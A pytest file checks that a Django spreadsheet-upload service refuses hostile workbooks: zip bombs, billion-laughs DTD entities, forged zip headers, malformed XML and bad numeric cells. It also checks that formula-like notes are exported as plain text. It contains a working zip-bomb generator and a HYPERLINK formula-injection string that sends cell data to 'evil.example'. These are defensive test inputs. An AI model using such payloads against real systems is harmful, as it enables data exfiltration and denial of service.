"""Workbooks are read with limits before parsing, and text goes out as text, never a formula.

Hostile files are made from a real template: its zip parts rewritten (``rezip``), so each
test changes exactly one thing a client could send.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile

import pytest
from defusedxml import EntitiesForbidden
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from tests.givens import add_submission, open_period, sub_url

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FUNDING = "xl/worksheets/sheet1.xml"
BOMB_BYTES = 200 * 1024 * 1024
DTD = b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>\n'
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def rezip(data: bytes, replace: dict[str, bytes] | None = None, add: dict | None = None) -> bytes:
    """The workbook ``data`` with some parts replaced and others added."""
    replace, add = replace or {}, add or {}
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in add.items():
            target.writestr(name, content)
    return out.getvalue()


def upload(member, data: bytes, **headers):
    file = SimpleUploadedFile("a1-2021.xlsx", data, content_type=XLSX)
    return member.client().post(
        sub_url(suffix="upload.xlsx"), {"file": file}, format="multipart", **headers
    )


def one_error(response) -> dict:
    (error,) = response.json()["errors"]
    return error


@pytest.fixture
def period(cast):
    open_period(cast.prog_a)
    return cast


@pytest.fixture
def template(period) -> bytes:
    return period.admin_a.client().get(sub_url(suffix="template.xlsx")).content


def _row_of(data: bytes, sheet: str, code: str) -> int:
    ws = load_workbook(io.BytesIO(data))[sheet]
    return next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == code)


def with_numbers(data: bytes, cells: dict[tuple[str, str], bytes]) -> bytes:
    """The template with each (sheet, cell) a numeric cell whose stored text is the value."""
    wb = load_workbook(io.BytesIO(data))
    for n, (sheet, cell) in enumerate(cells):
        wb[sheet][cell].value = 12345.5 + n
    out = io.BytesIO()
    wb.save(out)
    parts: dict[str, bytes] = {}
    for n, ((sheet, _), raw) in enumerate(cells.items()):
        part = f"xl/worksheets/sheet{wb.sheetnames.index(sheet) + 1}.xml"
        xml = parts.get(part) or zipfile.ZipFile(out).read(part)
        stored = b"<v>%s</v>" % repr(12345.5 + n).encode()
        assert xml.count(stored) == 1
        parts[part] = xml.replace(stored, b"<v>" + raw + b"</v>")
    return rezip(out.getvalue(), parts)


# --- sizes ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """A workbook whose shared strings unpack to 200 MiB (about 1.5 MB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", b"<Types/>")
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            chunk = b"<si><t>aaaaaaaaaaaaaaaa</t></si>" * 32768
            for _ in range(BOMB_BYTES // len(chunk)):
                part.write(chunk)
    return out.getvalue()


def test_a_zip_bomb_is_a_413_without_inflating_a_part(period, bomb, monkeypatch):
    opened: list[str] = []
    real_open = zipfile.ZipFile.open

    def recording_open(self, name, *a, **k):
        opened.append(getattr(name, "filename", name))
        return real_open(self, name, *a, **k)

    monkeypatch.setattr(zipfile.ZipFile, "open", recording_open)

    response = upload(period.admin_a, bomb)

    assert response.status_code == 413
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["code"] == "payload_too_large"
    assert one_error(response) == {
        "field": "file",
        "code": "payload_too_large",
        "message": f"The workbook unpacks to {BOMB_BYTES + 8} bytes; at most 20971520 are read.",
    }
    assert opened == []


def test_a_part_packed_more_than_100_to_1_is_a_413(period, template):
    padded = rezip(template, add={"xl/media/padding.bin": bytes(10 * 1024 * 1024)})

    response = upload(period.admin_a, padded)

    assert response.status_code == 413
    assert one_error(response)["message"].startswith("Part xl/media/padding.bin unpacks ")
    assert one_error(response)["message"].endswith(
        "times its packed size; at most 100 times is read."
    )


def test_a_file_over_5_mib_is_a_413(period):
    response = upload(period.admin_a, bytes(5 * 1024 * 1024 + 1))

    assert response.status_code == 413
    assert one_error(response) == {
        "field": "file",
        "code": "payload_too_large",
        "message": "The file has 5242881 bytes; a workbook may have at most 5242880.",
    }


def test_more_than_100_parts_is_a_400(period, template):
    many = rezip(template, add={f"xl/media/{i}.bin": b"x" for i in range(100)})

    response = upload(period.admin_a, many)

    assert response.status_code == 400
    assert one_error(response) == {
        "field": "file",
        "code": "invalid_file",
        "message": "The workbook has 112 parts; a submission workbook has at most 100.",
    }


def _understate(data: bytes, name: str) -> bytes:
    """``data`` with the central directory declaring ``name`` 10 bytes smaller than it is."""
    buf = bytearray(data)
    at = buf.find(b"PK\x01\x02" + bytes(0))
    while at != -1:
        length = struct.unpack_from("<H", buf, at + 28)[0]
        if bytes(buf[at + 46 : at + 46 + length]) == name.encode():
            size = struct.unpack_from("<I", buf, at + 24)[0]
            struct.pack_into("<I", buf, at + 24, size - 10)
            return bytes(buf)
        at = buf.find(b"PK\x01\x02", at + 4)
    raise AssertionError(f"{name} not in the directory")


def test_a_part_larger_than_it_declares_is_a_400_and_never_read_beyond(period, template):
    response = upload(period.admin_a, _understate(template, FUNDING))

    assert response.status_code == 400
    assert one_error(response) == {
        "field": "file",
        "code": "invalid_file",
        "message": f"Part {FUNDING} of the workbook cannot be unpacked (BadZipFile).",
    }


# --- XML ------------------------------------------------------------------------------------


def test_a_dtd_with_entities_is_refused_naming_the_part(period, template):
    strings = DTD + b"<sst><si><t>&lol2;</t></si></sst>"

    response = upload(period.admin_a, rezip(template, add={"xl/sharedStrings.xml": strings}))

    assert response.status_code == 400
    assert one_error(response) == {
        "field": "file",
        "code": "dtd_forbidden",
        "message": "Part xl/sharedStrings.xml declares a DTD; workbooks with DTDs or entities "
        "are refused.",
    }


def test_a_dtd_in_a_sheet_is_refused_naming_the_sheet(period, template):
    sheet = zipfile.ZipFile(io.BytesIO(template)).read(FUNDING)

    response = upload(period.admin_a, rezip(template, {FUNDING: DTD + sheet.split(b"?>", 1)[-1]}))

    assert response.status_code == 400
    assert one_error(response)["message"] == (
        f"Sheet Funding ({FUNDING}) declares a DTD; workbooks with DTDs or entities are refused."
    )


def test_openpyxl_itself_refuses_entities_through_defusedxml(template):
    # The second guard, behind check_archive: openpyxl parses with defusedxml when installed.
    strings = DTD + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    strings += b"<si><t>&lol2;</t></si></sst>"
    types = zipfile.ZipFile(io.BytesIO(template)).read("[Content_Types].xml")
    types = types.replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    data = rezip(template, {"[Content_Types].xml": types}, add={"xl/sharedStrings.xml": strings})

    with pytest.raises(ValueError, match="could not read strings") as raised:
        load_workbook(io.BytesIO(data), read_only=True)
    assert isinstance(raised.value.__cause__, EntitiesForbidden)


def test_malformed_xml_in_a_sheet_is_a_400_naming_the_sheet(period, template):
    sheet = zipfile.ZipFile(io.BytesIO(template)).read(FUNDING)
    broken = sheet.replace(b"<sheetData>", b"<sheetData><row>", 1)

    response = upload(period.admin_a, rezip(template, {FUNDING: broken}))

    assert response.status_code == 400
    assert one_error(response) == {
        "field": "file",
        "code": "invalid_xml",
        "message": f"Sheet Funding ({FUNDING}) is not well-formed XML (mismatched tag, line 1).",
    }


def test_a_lone_surrogate_in_a_cell_is_malformed_xml(period, template):
    sheet = zipfile.ZipFile(io.BytesIO(template)).read(FUNDING)
    bad = sheet.replace(b"<t>source code</t>", b"<t>source &#xD800;</t>", 1)

    response = upload(period.admin_a, rezip(template, {FUNDING: bad}))

    assert response.status_code == 400
    assert one_error(response)["message"] == (
        f"Sheet Funding ({FUNDING}) is not well-formed XML "
        "(reference to invalid character number, line 1)."
    )


def test_more_than_1000_rows_is_a_400_naming_the_sheet(period, template):
    sheet = zipfile.ZipFile(io.BytesIO(template)).read(FUNDING)
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(40, 1002))
    long = sheet.replace(b"</sheetData>", rows + b"</sheetData>", 1)

    response = upload(period.admin_a, rezip(template, {FUNDING: long}))

    assert response.status_code == 400
    assert one_error(response) == {
        "field": "Funding!A1001",
        "code": "too_many_rows",
        "message": f"Sheet Funding ({FUNDING}) has more than 1000 rows.",
    }


# --- cells ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"nan", "'nan' is not a finite number."),
        (b"1e999", "'1e999' is not a finite number."),
        (b"-inf", "'-inf' is not a finite number."),
        (b"lots", "'lots' is not a decimal number."),
    ],
)
def test_a_numeric_cell_openpyxl_cannot_read_is_a_400_naming_the_cell(
    period, template, raw, message
):
    row = _row_of(template, "Funding", "membership_fees")

    response = upload(period.admin_a, with_numbers(template, {("Funding", f"D{row}"): raw}))

    assert response.status_code == 400
    assert one_error(response) == {
        "field": f"Funding!D{row}",
        "code": "invalid_number",
        "message": message,
    }


def test_a_numeric_cell_of_5000_digits_is_a_400_naming_the_cell(period, template):
    row = _row_of(template, "Funding", "membership_fees")
    raw = b"0" * 4999 + b"1"

    response = upload(period.admin_a, with_numbers(template, {("Funding", f"D{row}"): raw}))

    assert response.status_code == 400
    assert one_error(response)["field"] == f"Funding!D{row}"
    assert one_error(response)["code"] == "invalid_number"


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b'<row r="1"', b'<row r="' + b"9" * 5000 + b'"', "has a row numbered "),
        (b'<row r="1"', b'<row r="\xc2\xb2"', "has a row numbered '\xb2'."),
    ],
    ids=["5000-digits", "superscript-two"],
)
def test_a_row_number_int_cannot_read_is_a_400(period, template, old, new, message):
    sheet = zipfile.ZipFile(io.BytesIO(template)).read(FUNDING)

    response = upload(period.admin_a, rezip(template, {FUNDING: sheet.replace(old, new, 1)}))

    assert response.status_code == 400
    assert one_error(response)["code"] == "invalid_file"
    assert message in one_error(response)["message"]


def test_bad_cells_in_several_sheets_are_all_named(period, template):
    fees = _row_of(template, "Funding", "membership_fees")
    data = with_numbers(template, {("Funding", f"D{fees}"): b"nan", ("KPIs", "E2"): b"1e999"})

    response = upload(period.admin_a, data)

    assert response.status_code == 400
    assert [e["field"] for e in response.json()["errors"]] == [f"Funding!D{fees}", "KPIs!E2"]


def test_a_shared_string_index_beyond_the_table_is_a_400_naming_the_cell(period, template):
    sheet = zipfile.ZipFile(io.BytesIO(template)).read(FUNDING)
    bad = re.sub(
        rb'<c r="A1"[^>]*><is><t>source code</t></is></c>', b'<c r="A1" t="s"><v>7</v></c>', sheet
    )
    assert bad != sheet

    response = upload(period.admin_a, rezip(template, {FUNDING: bad}))

    assert response.status_code == 400
    assert one_error(response) == {
        "field": "Funding!A1",
        "code": "invalid_file",
        "message": "The cell refers to no text of the workbook.",
    }


def test_text_where_a_number_belongs_is_the_kits_invalid_number(period, template):
    wb = load_workbook(io.BytesIO(template))
    row = _row_of(template, "Funding", "membership_fees")
    wb["Funding"][f"D{row}"].value = "twelve"
    out = io.BytesIO()
    wb.save(out)

    response = upload(period.admin_a, out.getvalue())

    assert response.status_code == 400
    assert one_error(response) == {
        "field": f"Funding!D{row}",
        "code": "invalid_number",
        "message": "'twelve' is not a decimal number.",
    }


# --- formulas -------------------------------------------------------------------------------


def test_a_note_that_looks_like_a_formula_comes_back_as_a_string_cell(period):
    add_submission(
        period.a1,
        2021,
        state="draft",
        funding=[("membership_fees", "200000.00")],
    )
    line = period.a1.submissions.get(year=2021).funding.get()
    line.note = HYPERLINK
    line.save()
    sub = period.a1.submissions.get(year=2021)
    sub.notes = "=1+1"
    sub.save()

    response = period.editor_a1.client().get(sub_url(suffix="template.xlsx"))

    wb = load_workbook(io.BytesIO(response.content))
    row = _row_of(response.content, "Funding", "membership_fees")
    note = wb["Funding"][f"G{row}"]
    assert (note.data_type, note.value) == ("s", HYPERLINK)
    notes = wb["Info"]["B7"]
    assert (notes.data_type, notes.value) == ("s", "=1+1")


def test_no_cell_of_the_template_is_a_formula(period):
    response = period.admin_a.client().get(sub_url(suffix="template.xlsx"))

    wb = load_workbook(io.BytesIO(response.content))
    assert [
        c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"
    ] == []


# --- the PUT's answers ----------------------------------------------------------------------


def test_an_upload_into_an_approved_submission_is_the_puts_409(period, template):
    add_submission(period.a1, 2021, state="approved", funding=[("membership_fees", "1.00")])

    response = upload(period.admin_a, template)

    assert response.status_code == 409
    put = period.admin_a.client().put(sub_url(), {"currency": "EUR"}, format="json")
    assert response.json() == put.json()
    assert response.json()["errors"] == [
        {
            "field": "state",
            "code": "not_editable",
            "message": response.json()["detail"],
        }
    ]


def test_a_stale_if_match_is_the_puts_412_with_its_errors(period, template):
    response = upload(period.admin_a, template, HTTP_IF_MATCH='"7"')

    assert response.status_code == 412
    put = period.admin_a.client().put(
        sub_url(), {"currency": "EUR"}, format="json", HTTP_IF_MATCH='"7"'
    )
    assert response.json() == put.json()
    assert response.json()["errors"] == [
        {"field": "If-Match", "code": "precondition_failed", "message": response.json()["detail"]}
    ]
